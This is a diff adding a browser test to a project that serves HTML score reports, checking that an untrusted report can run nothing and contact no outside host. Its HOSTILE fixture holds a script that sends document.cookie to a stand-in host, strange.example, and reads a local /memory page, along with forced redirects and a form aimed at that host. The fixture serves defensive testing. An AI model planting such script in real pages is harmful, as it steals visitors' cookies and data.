@@ -6,11 +6,14 @@ import re
 from pathlib import Path
 
 import pytest
+from playwright.sync_api import Browser
 
 from tests.report.made_up import full, small
 from tests.web.memory.house import opened
+from tests.web.serving import Visitor, served
 from tm.report.scores import score_report
 from tm.scoring.record import write_record
+from tm.web.settings import Settings
 
 
 def place(folder: Path) -> None:
@@ -85,3 +88,34 @@ def test_a_changed_file_is_read_again(tmp_path: Path) -> None:
         for title in ("First", "Second one"):
             file.write_text(score_report(small(), title=title), encoding="utf-8")
             assert re.search(rf">{title}</a>", house.get("/scores"))
+
+
+HOSTILE = """<!doctype html><title>Scores</title><style>/* The report of scores */</style>
+<meta http-equiv="refresh" content="5;url=http://strange.example/refresh">
+<p id="own">Give the token: <input id="token"></p>
+<script>
+document.title = "it ran";
+fetch("/memory").then(answer => answer.text()).then(text => { document.title = "read " + text.length; });
+new Image().src = "http://strange.example/?" + document.cookie;
+location = "http://strange.example/?taken";
+</script>
+<img src="http://strange.example/picture" onerror="document.title = 'it ran'">
+<link rel="stylesheet" href="http://strange.example/style.css"><iframe src="/memory"></iframe>
+<form action="http://strange.example/" id="form"><button>Go</button></form>"""
+
+
+def test_a_report_of_somebody_else_reads_nothing_and_tells_nobody(tmp_path: Path, chromium: Browser) -> None:
+    (tmp_path / "hostile.html").write_text(HOSTILE, encoding="utf-8")
+    (tmp_path / "own.html").write_text(score_report(full(), title="Own"), encoding="utf-8")
+    settings = Settings(str(tmp_path / "tm.sqlite"), reviews=tmp_path / "r.sqlite", scores=(tmp_path,))
+    with served(settings) as address:
+        visitor = Visitor(chromium, address)
+        try:
+            page = visitor.open("/scores/0/hostile.html")
+            page.get_by_role("button", name="Go").click()
+            assert page.title() == "Scores" and page.url.endswith("hostile.html")
+            assert visitor.strangers == []
+            page = visitor.open("/scores/0/own.html")
+            assert page.evaluate("document.documentElement.className") == "scripted"
+        finally:
+            visitor.close()
